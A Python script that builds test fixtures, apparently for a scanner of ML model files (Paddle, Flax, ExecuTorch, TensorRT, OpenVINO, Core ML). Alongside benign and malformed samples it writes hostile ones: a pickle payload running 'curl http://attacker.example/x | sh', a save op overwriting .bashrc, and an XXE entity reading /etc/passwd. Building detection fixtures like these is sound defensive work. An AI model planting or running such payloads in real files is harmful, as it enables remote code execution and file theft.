#!/usr/bin/env python3
"""Fixtures for PaddlePaddle programs and parameters, Flax msgpack checkpoints, ExecuTorch programs,
TensorRT engines, OpenVINO IR and Core ML.

None of these frameworks is installed here, so the files are built by hand from the public
specifications: Paddle's framework.proto (ProgramDesc/BlockDesc/OpDesc/VarDesc) encoded with a
small protobuf writer, paddle.save's pickle of NumPy arrays, and flax.serialization's msgpack
layout (ext code 1 = ndarray as msgpack [shape, dtype, bytes]), and ExecuTorch's schema/program.fbs
written with a small flatbuffer writer.
"""
import io
import os
import pickle
import struct

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
FIX = os.path.join(HERE, "..", "resources", "fixtures")


def write(folder, name, data):
    path = os.path.join(FIX, folder, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


# ---------------------------------------------------------------- protobuf
def varint(v):
    if v < 0:
        v += 1 << 64
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        if v:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def f_varint(field, v):
    return varint(field << 3) + varint(v)


def f_bytes(field, b):
    if isinstance(b, str):
        b = b.encode()
    return varint((field << 3) | 2) + varint(len(b)) + b


# framework.proto: AttrType INT=0 FLOAT=1 STRING=2 INTS=3 ... BOOLEAN=6 ...
def attr_str(name, s):
    return f_bytes(1, name) + f_varint(2, 2) + f_bytes(5, s)


def attr_int(name, i):
    return f_bytes(1, name) + f_varint(2, 0) + f_varint(3, i)


def op(type_, inputs=(), outputs=(), attrs=()):
    msg = b""
    for param, args in inputs:
        msg += f_bytes(1, f_bytes(1, param) + b"".join(f_bytes(2, a) for a in args))
    for param, args in outputs:
        msg += f_bytes(2, f_bytes(1, param) + b"".join(f_bytes(2, a) for a in args))
    msg += f_bytes(3, type_)
    for a in attrs:
        msg += f_bytes(4, a)
    return msg


# VarType.Type: LOD_TENSOR = 7, FP32 = 5, FEED_MINIBATCH = 9, FETCH_LIST = 10
def var(name, persistable=False, dims=(1,), vtype=7):
    tensor = f_varint(1, 5) + b"".join(f_varint(2, d) for d in dims)
    lod = f_bytes(1, tensor)
    vt = f_varint(1, vtype)
    if vtype == 7:
        vt += f_bytes(3, lod)
    return f_bytes(1, name) + f_bytes(2, vt) + f_varint(3, 1 if persistable else 0)


def block(idx, parent, vars_, ops_):
    msg = f_varint(1, idx) + f_varint(2, parent)
    msg += b"".join(f_bytes(3, v) for v in vars_)
    msg += b"".join(f_bytes(4, o) for o in ops_)
    return msg


def program(blocks):
    # version = 4 (Version { version = 1 }): Paddle 2.x writes 0
    return b"".join(f_bytes(1, b) for b in blocks) + f_bytes(4, f_varint(1, 0))


def linear_ops(extra=()):
    ops_ = [
        op("feed", [("X", ["feed"])], [("Out", ["x"])], [attr_int("col", 0)]),
        op("matmul_v2", [("X", ["x"]), ("Y", ["linear_0.w_0"])], [("Out", ["linear_0.tmp_0"])]),
        op(
            "elementwise_add",
            [("X", ["linear_0.tmp_0"]), ("Y", ["linear_0.b_0"])],
            [("Out", ["linear_0.tmp_1"])],
            [attr_int("axis", -1)],
        ),
        op("relu", [("X", ["linear_0.tmp_1"])], [("Out", ["relu_0.tmp_0"])]),
    ]
    ops_ += list(extra)
    ops_.append(op("fetch", [("X", ["relu_0.tmp_0"])], [("Out", ["fetch"])], [attr_int("col", 0)]))
    return ops_


def linear_vars():
    return [
        var("feed", vtype=9),
        var("fetch", vtype=10),
        var("x", dims=(-1, 4)),
        var("linear_0.w_0", True, (4, 3)),
        var("linear_0.b_0", True, (3,)),
        var("linear_0.tmp_0", dims=(-1, 3)),
        var("linear_0.tmp_1", dims=(-1, 3)),
        var("relu_0.tmp_0", dims=(-1, 3)),
    ]


def paddle():
    write("paddle", "benign-linear.pdmodel", program([block(0, -1, linear_vars(), linear_ops())]))
    py = op(
        "py_func",
        [("X", ["relu_0.tmp_0"])],
        [("Out", ["relu_0.tmp_0"])],
        [attr_int("forward_callable_id", 0), attr_int("backward_callable_id", -1)],
    )
    write("paddle", "malicious-py-func.pdmodel", program([block(0, -1, linear_vars(), linear_ops([py]))]))
    save = op(
        "save",
        [("X", ["linear_0.w_0"])],
        [],
        [attr_str("file_path", "/home/user/.bashrc"), attr_int("overwrite", 1)],
    )
    # the save hides in a sub-block, as a conditional_block's body would hold it
    write(
        "paddle",
        "malicious-save-in-subblock.pdmodel",
        program([block(0, -1, linear_vars(), linear_ops()), block(1, 0, [], [save])]),
    )
    good = program([block(0, -1, linear_vars(), linear_ops())])
    write("paddle", "malformed-truncated.pdmodel", good[: len(good) * 2 // 3])
    # an operator whose length field claims more bytes than its block holds
    bad_ops = linear_ops()
    blk = f_varint(1, 0) + f_varint(2, -1) + b"".join(f_bytes(3, v) for v in linear_vars())
    blk += varint((4 << 3) | 2) + varint(100000) + bad_ops[0]
    write("paddle", "malformed-op-length.pdmodel", f_bytes(1, blk))

    # paddle.save(layer.state_dict()) pickles {name: numpy array} (protocol 4 in Paddle 2.x)
    rng = np.random.default_rng(7)
    state = {
        "linear_0.w_0": rng.standard_normal((4, 3)).astype(np.float32),
        "linear_0.b_0": np.zeros(3, dtype=np.float32),
        "StructuredToParameterName@@": {"linear_0.w_0": "linear_0.w_0", "linear_0.b_0": "linear_0.b_0"},
    }
    write("paddle", "benign-linear.pdparams", pickle.dumps(state, protocol=4))
    opt = {"linear_0.w_0_moment1_0": np.zeros((4, 3), np.float32), "LR_Scheduler": {"last_epoch": 3, "last_lr": 0.001}}
    write("paddle", "benign-adam.pdopt", pickle.dumps(opt, protocol=4))

    class Evil:
        def __reduce__(self):
            return (os.system, ("curl http://attacker.example/x | sh",))

    write("paddle", "malicious-reduce.pdparams", pickle.dumps({"linear_0.w_0": Evil()}, protocol=4))




# ---------------------------------------------------------------- msgpack (flax.serialization)
def mp_str(s):
    b = s.encode()
    if len(b) < 32:
        return bytes([0xA0 | len(b)]) + b
    return b"\xd9" + bytes([len(b)]) + b


def mp_bin(b):
    if len(b) < 256:
        return b"\xc4" + bytes([len(b)]) + b
    return b"\xc5" + struct.pack(">H", len(b)) + b


def mp_int(i):
    if 0 <= i < 128:
        return bytes([i])
    return b"\xd3" + struct.pack(">q", i)


def mp_float(f):
    return b"\xcb" + struct.pack(">d", f)


def mp_array(items):
    assert len(items) < 16
    return bytes([0x90 | len(items)]) + b"".join(items)


def mp_map(pairs):
    assert len(pairs) < 16
    return bytes([0x80 | len(pairs)]) + b"".join(mp_str(k) + v for k, v in pairs)


def mp_ext(code, payload):
    if len(payload) < 256:
        return b"\xc7" + bytes([len(payload)]) + struct.pack("b", code) + payload
    return b"\xc8" + struct.pack(">H", len(payload)) + struct.pack("b", code) + payload


def ndarray(arr, code=1):
    # flax.serialization._ndarray_to_bytes: msgpack.packb((shape, dtype.name, tobytes()))
    payload = mp_array([mp_array([mp_int(d) for d in arr.shape]), mp_str(arr.dtype.name), mp_bin(arr.tobytes())])
    return mp_ext(code, payload)


def flax():
    rng = np.random.default_rng(3)
    params = mp_map(
        [
            (
                "params",
                mp_map(
                    [
                        ("Dense_0", mp_map([("bias", ndarray(np.zeros(8, np.float32))), ("kernel", ndarray(rng.standard_normal((4, 8)).astype(np.float32)))])),
                        ("Dense_1", mp_map([("bias", ndarray(np.zeros(2, np.float32))), ("kernel", ndarray(rng.standard_normal((8, 2)).astype(np.float32)))])),
                    ]
                ),
            ),
            ("step", ndarray(np.asarray(100, np.int32), code=3)),
            ("opt_state", mp_map([("0", mp_map([("count", ndarray(np.asarray(7, np.int32), code=3)), ("lr", mp_float(1e-3))]))])),
        ]
    )
    write("flax", "benign-mlp.msgpack", params)
    # same content under a name that gives no hint: detection by content
    write("flax", "benign-checkpoint_100", params)

    class Evil:
        def __reduce__(self):
            return (os.system, ("id > /tmp/pwned",))

    evil = pickle.dumps(Evil(), protocol=4)
    write(
        "flax",
        "malicious-pickle-in-bytes.msgpack",
        mp_map([("params", mp_map([("Dense_0", mp_map([("kernel", ndarray(np.ones((2, 2), np.float32)))]))])), ("metadata", mp_bin(evil))]),
    )
    write(
        "flax",
        "suspicious-custom-ext.msgpack",
        mp_map([("params", mp_map([("w", ndarray(np.ones(3, np.float32)))])), ("hook", mp_ext(42, b"\x01\x02\x03\x04"))]),
    )
    # the ext length claims far more bytes than the file holds
    good = params
    write("flax", "malformed-ext-length.msgpack", mp_map([("params", b"\xc9\x7f\xff\xff\xff\x01" + b"\x00" * 8)]))
    write("flax", "malformed-truncated.msgpack", good[: len(good) // 2])
    deep = b"\x81\xa1a" * 200 + b"\x00"
    write("flax", "malformed-deep-nesting.msgpack", deep)
    # shape (4, 8) float32 needs 128 bytes; 16 are given
    lie = mp_ext(1, mp_array([mp_array([mp_int(4), mp_int(8)]), mp_str("float32"), mp_bin(b"\x00" * 16)]))
    write("flax", "malformed-array-size.msgpack", mp_map([("params", mp_map([("kernel", lie)]))]))


# ---------------------------------------------------------------- ExecuTorch (schema/program.fbs)
class FlatBuf:
    """A small flatbuffer writer: parents first, children appended after them (uoffsets point
    forward), each vtable right before its table. Objects: ("table", [field or None, ...]) with
    scalar fields ("u8"|"i32"|"u32"|"u64", value) or child objects ("str", text), ("bytes", data),
    ("i32s", [ints]), ("tables", [tables]) and tables."""

    SIZES = {"u8": 1, "i32": 4, "u32": 4, "u64": 8}
    FORMATS = {"u8": "<B", "i32": "<i", "u32": "<I", "u64": "<Q"}

    def __init__(self, identifier, reserve=0):
        self.buf = bytearray(4) + identifier + bytearray(reserve)

    def pad(self, n):
        self.buf += bytes(-len(self.buf) % n)

    def patch(self, at, target):
        struct.pack_into("<I", self.buf, at, target - at)

    def write(self, obj):
        kind = obj[0]
        if kind == "table":
            return self.table(obj[1])
        self.pad(4)
        pos = len(self.buf)
        if kind in ("str", "bytes"):
            data = obj[1].encode() if kind == "str" else obj[1]
            self.buf += struct.pack("<I", len(data)) + data + (b"\0" if kind == "str" else b"")
        elif kind == "i32s":
            self.buf += struct.pack("<I%di" % len(obj[1]), len(obj[1]), *obj[1])
        elif kind == "tables":
            self.buf += struct.pack("<I", len(obj[1])) + bytes(4 * len(obj[1]))
            for i, child in enumerate(obj[1]):
                self.patch(pos + 4 + 4 * i, self.write(child))
        return pos

    def table(self, fields):
        def size(f):
            return self.SIZES.get(f[0], 4)

        order = sorted((i for i, f in enumerate(fields) if f is not None), key=lambda i: -size(fields[i]))
        offsets, at = {}, 4
        for i in order:
            n = size(fields[i])
            at += -at % n
            offsets[i] = at
            at += n
        table_size = at + (-at % 4)
        vtable = struct.pack("<HH", 4 + 2 * len(fields), table_size)
        vtable += b"".join(struct.pack("<H", offsets.get(i, 0)) for i in range(len(fields)))
        start = len(self.buf)
        gap = -(start + len(vtable)) % 8
        self.buf += bytes(gap) + vtable
        pos = len(self.buf)
        self.buf += struct.pack("<i", pos - (start + gap)) + bytes(table_size - 4)
        children = []
        for i in order:
            f = fields[i]
            if f[0] in self.SIZES:
                struct.pack_into(self.FORMATS[f[0]], self.buf, pos + offsets[i], f[1])
            else:
                children.append((pos + offsets[i], f))
        for at, child in children:
            self.patch(at, self.write(child))
        return pos

    def finish(self, root):
        pos = self.write(root)
        struct.pack_into("<I", self.buf, 0, pos)
        return self.buf


def fb_table(*fields):
    return ("table", list(fields))


def et_operator(name, overload="out"):
    return fb_table(("str", name), ("str", overload))


def kernel_call(op_index, args):
    # Instruction { instr_args_type: u8 (1 KernelCall, 2 DelegateCall), instr_args }
    return fb_table(("u8", 1), fb_table(("i32", op_index), ("i32s", args)))


def delegate_call(index, args):
    return fb_table(("u8", 2), fb_table(("i32", index), ("i32s", args)))


def pte(operators, instructions, delegates=(), inline_data=(), segments=(), segment_data=b"", header_lie=None):
    chain = fb_table(("i32s", [0]), ("i32s", [2]), ("tables", list(instructions)))
    plan = fb_table(
        ("str", "forward"), None, None, ("i32s", [0]), ("i32s", [2]), ("tables", [chain]),
        ("tables", list(operators)), ("tables", list(delegates)),
    )
    program = fb_table(
        ("u32", 0),
        ("tables", [plan]),
        None,
        ("tables", [fb_table(("bytes", d)) for d in inline_data]),
        ("tables", [fb_table(("u64", o), ("u64", n)) for o, n in segments]),
    )
    fb = FlatBuf(b"ET12", reserve=24)
    buf = fb.finish(program)
    program_size = len(buf)
    buf += bytes(-len(buf) % 16)
    base = len(buf)
    if header_lie is not None:
        program_size, base = header_lie
    # extended header at byte 8: "eh00", length 24, program_size, segment_base_offset
    buf[8:32] = b"eh00" + struct.pack("<IQQ", 24, program_size, base)
    return bytes(buf) + segment_data


def executorch():
    ops = [et_operator("aten::add"), et_operator("aten::relu")]
    calls = [kernel_call(0, [0, 0, 1]), kernel_call(1, [1, 2])]
    weights = bytes(range(64))
    write("executorch", "benign-add-relu.pte", pte(ops, calls, segments=[(0, 64)], segment_data=weights))
    xnn = fb_table(("str", "XnnpackBackend"), fb_table(("u8", 0), ("u32", 0)), ("tables", []))
    write(
        "executorch",
        "benign-xnnpack-delegate.pte",
        pte([], [delegate_call(0, [0, 2])], delegates=[xnn], inline_data=[b"XN01" + bytes(60)]),
    )
    custom = ops + [et_operator("my_ops::run_shell", "default")]
    write("executorch", "suspicious-custom-op.pte", pte(custom, calls + [kernel_call(2, [2, 2])]))
    odd = fb_table(("str", "AcmeNpuBackend"), fb_table(("u8", 1), ("u32", 0)), ("tables", []))
    write(
        "executorch",
        "suspicious-unknown-backend.pte",
        pte([], [delegate_call(0, [0, 2])], delegates=[odd], segments=[(0, 32)], segment_data=bytes(32)),
    )
    write("executorch", "malformed-segment-past-end.pte", pte(ops, calls, segments=[(0, 1 << 40)], segment_data=weights))
    write("executorch", "malformed-op-index.pte", pte(ops, [kernel_call(7, [0, 0, 1])]))
    good = pte(ops, calls)
    write("executorch", "malformed-truncated.pte", good[: len(good) // 2])


# ---------------------------------------------------------------- TensorRT (.engine/.plan)
def trt_engine(strings, extra=b""):
    # The plan layout is proprietary: magic tag "ftrt", a serialization version at byte 8, then
    # binary sections. What matters to a string scan is realistic layer and plugin names among
    # binary weights.
    rng = np.random.default_rng(13)
    body = bytearray(b"ftrt" + struct.pack("<I", 0) + bytes([232]) + bytes(23))
    for s in strings:
        body += struct.pack("<I", len(s)) + s.encode() + rng.integers(0, 16, 40, dtype=np.uint8).tobytes()
    body += np.linspace(-1, 1, 64, dtype=np.float32).tobytes()
    return bytes(body) + extra


def tensorrt():
    layers = ["input_1", "conv1 + relu1", "Reformatting CopyNode for Input Tensor 0", "EfficientNMS_TRT", "output_0"]
    write("tensorrt", "benign-detector.engine", trt_engine(layers))
    write("tensorrt", "malicious-plugin-library.plan", trt_engine(layers + ["/tmp/.cache/libcustom_nms_plugin.so"]))
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)
    write("tensorrt", "malicious-embedded-elf.engine", trt_engine(layers, extra=elf))
    write("tensorrt", "malformed-truncated.engine", b"ftrt" + bytes(12))


# ---------------------------------------------------------------- OpenVINO IR (.xml + .bin)
def ov_layer(lid, name, type_, version="opset1", data="", ports=""):
    return (
        f'\t\t<layer id="{lid}" name="{name}" type="{type_}" version="{version}">\n'
        + (f"\t\t\t<data {data} />\n" if data else "")
        + ports
        + "\t\t</layer>\n"
    )


def ov_port(kind, pid, dims, precision="FP32"):
    dd = "".join(f"<dim>{d}</dim>" for d in dims)
    return f'\t\t\t<{kind}><port id="{pid}" precision="{precision}">{dd}</port></{kind}>\n'


def ov_ir(middle_layers, prolog="", extra=""):
    layers = ov_layer(0, "input", "Parameter", data='shape="1,4" element_type="f32"', ports=ov_port("output", 0, [1, 4]))
    layers += ov_layer(1, "weights", "Const", data='element_type="f32" shape="3,4" offset="0" size="48"', ports=ov_port("output", 0, [3, 4]))
    layers += ov_layer(2, "matmul", "MatMul", data='transpose_a="false" transpose_b="true"', ports=ov_port("output", 2, [1, 3]))
    n = 3
    for type_, version in middle_layers:
        layers += ov_layer(n, type_.lower() + str(n), type_, version=version, ports=ov_port("output", 1, [1, 3]))
        n += 1
    layers += ov_layer(n, "output", "Result", ports=ov_port("input", 0, [1, 3]))
    edges = '\t\t<edge from-layer="0" from-port="0" to-layer="2" to-port="0" />\n'
    return (
        prolog
        + '<?xml version="1.0"?>\n'
        + '<net name="mlp" version="11">\n\t<layers>\n'
        + layers
        + "\t</layers>\n\t<edges>\n"
        + edges
        + "\t</edges>\n"
        + extra
        + '\t<rt_info>\n\t\t<MO_version value="2024.4.0" />\n\t</rt_info>\n</net>\n'
    ).encode()


def openvino():
    write("openvino", "benign-mlp.xml", ov_ir([("Relu", "opset1"), ("SoftMax", "opset8")]))
    write("openvino", "benign-mlp.bin", np.linspace(-1, 1, 12, dtype=np.float32).tobytes())
    xxe = '<?xml version="1.0"?>\n<!DOCTYPE net [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    ir = ov_ir([("Relu", "opset1")]).decode().replace('<?xml version="1.0"?>\n', xxe).replace('name="matmul"', 'name="&xxe;"')
    write("openvino", "malicious-xxe-doctype.xml", ir.encode())
    write("openvino", "suspicious-custom-extension.xml", ov_ir([("CustomNms", "custom_opset"), ("Relu", "opset1")]))
    write("openvino", "malformed-unclosed.xml", ov_ir([("Relu", "opset1")])[:-40])
    deep = '<?xml version="1.0"?>\n<net name="deep" version="11">' + "<a>" * 100 + "</a>" * 100 + "</net>\n"
    write("openvino", "malformed-deep-nesting.xml", deep.encode())


# ---------------------------------------------------------------- Core ML (.mlmodel, .mlpackage)
def cml_feature(name, shape):
    # FeatureDescription { name = 1, type = 3 (FeatureType { multiArrayType = 5 { shape = 1, dataType = 2 } }) }
    arr = b"".join(f_varint(1, d) for d in shape) + f_varint(2, 65568)  # FLOAT32
    return f_bytes(1, name) + f_bytes(3, f_bytes(5, arr))


def cml_description():
    return f_bytes(1, cml_feature("input", [1, 4])) + f_bytes(10, cml_feature("output", [1, 3]))


def cml_layer(name, inputs, outputs, params_field, params):
    msg = f_bytes(1, name) + b"".join(f_bytes(2, i) for i in inputs) + b"".join(f_bytes(3, o) for o in outputs)
    return msg + f_bytes(params_field, params)


def cml_weights(values):
    return f_bytes(1, struct.pack("<%df" % len(values), *values))  # WeightParams.floatValue (packed)


def cml_model(model_field, model_body, spec=4):
    return f_varint(1, spec) + f_bytes(2, cml_description()) + f_bytes(model_field, model_body)


def coreml():
    # InnerProductLayerParams (140): inputChannels 1, outputChannels 2, hasBias 10, weights 20
    inner = f_varint(1, 4) + f_varint(2, 3) + f_bytes(20, cml_weights([0.1] * 12))
    relu = f_bytes(10, b"")  # ActivationParams.ReLU = 10
    network = f_bytes(1, cml_layer("dense", ["input"], ["h"], 140, inner)) + f_bytes(1, cml_layer("relu", ["h"], ["output"], 130, relu))
    benign = cml_model(500, network)
    write("coreml", "benign-mlp.mlmodel", benign)
    # an .mlpackage: Manifest.json plus the spec under Data/com.apple.CoreML/
    manifest = (
        '{"fileFormatVersion": "1.0.0", "itemInfoEntries": {"7C3E": {"author": "com.apple.CoreML",'
        ' "description": "CoreML Model Specification", "name": "model.mlmodel",'
        ' "path": "com.apple.CoreML/model.mlmodel"}}, "rootModelIdentifier": "7C3E"}'
    )
    write("coreml", "benign-mlp.mlpackage/Manifest.json", manifest.encode())
    write("coreml", "benign-mlp.mlpackage/Data/com.apple.CoreML/model.mlmodel", benign)
    # CustomLayerParams (500): className = 10, description = 40
    custom = f_bytes(10, "AAPLMysteryLayer") + f_bytes(40, "does something")
    network_custom = f_bytes(1, cml_layer("dense", ["input"], ["h"], 140, inner)) + f_bytes(1, cml_layer("mystery", ["h"], ["output"], 500, custom))
    write("coreml", "suspicious-custom-layer.mlmodel", cml_model(500, network_custom))
    # CustomModel (555): className = 10
    write("coreml", "suspicious-custom-model.mlmodel", cml_model(555, f_bytes(10, "EvilNativeModel"), spec=1))
    # the custom layer hidden in a loop's body inside a pipeline
    loop = f_varint(1, 10) + f_bytes(4, f_bytes(1, cml_layer("mystery", ["h"], ["h"], 500, custom)))
    inner_net = f_bytes(1, cml_layer("loop", ["input"], ["output"], 615, loop))
    pipeline = f_bytes(1, cml_model(500, inner_net))
    write("coreml", "suspicious-custom-layer-in-loop.mlmodel", cml_model(202, pipeline))
    write("coreml", "malformed-truncated.mlmodel", benign[: len(benign) - 20])


if __name__ == "__main__":
    paddle()
    flax()
    executorch()
    tensorrt()
    openvino()
    coreml()
